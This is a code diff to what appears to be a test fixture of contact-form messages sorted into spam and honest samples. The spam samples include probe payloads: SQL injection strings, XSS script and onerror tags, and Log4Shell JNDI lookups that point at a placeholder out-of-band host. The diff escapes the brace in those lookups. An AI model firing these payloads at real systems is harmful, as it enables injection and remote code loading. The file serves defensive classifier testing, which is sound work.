@@ -11,7 +11,7 @@ export interface Message {
   message: string;
 }
 
-type Cells = [kind: string, name: string, email: string, message: string, company?: string];
+export type Cells = [kind: string, name: string, email: string, message: string, company?: string];
 
 export const messageOf = ([kind, name, email, message, company]: Cells): Message => ({
   ...{ kind, name, email, message, company },
@@ -151,9 +151,9 @@ export const spam: Message[] = (
     ["probe", "' OR '1'='1' --", "probe@scan.example", "1' UNION SELECT NULL,NULL,version()-- -"],
     [
       "probe",
-      "${jndi:ldap://x.oob.example/a}",
+      "$\u007bjndi:ldap://x.oob.example/a}",
       "jndi@scan.example",
-      "${jndi:ldap://x.oob.example/b}",
+      "$\u007bjndi:ldap://x.oob.example/b}",
     ],
     ["probe", "<script>alert(1)</script>", "xss@scan.example", '"><img src=x onerror=alert(1)>'],
     [
@@ -346,7 +346,7 @@ export const honest: Message[] = (
       "log",
       "Priyanka Rao",
       "priyanka@rao.example",
-      "Our firewall logged ${jndi:ldap://203.0.113.5/a} from outside about 300 times last night. Should we worry? We have a vCenter that may not be patched.",
+      "Our firewall logged $\u007bjndi:ldap://203.0.113.5/a} from outside about 300 times last night. Should we worry? We have a vCenter that may not be patched.",
     ],
     [
       "log",
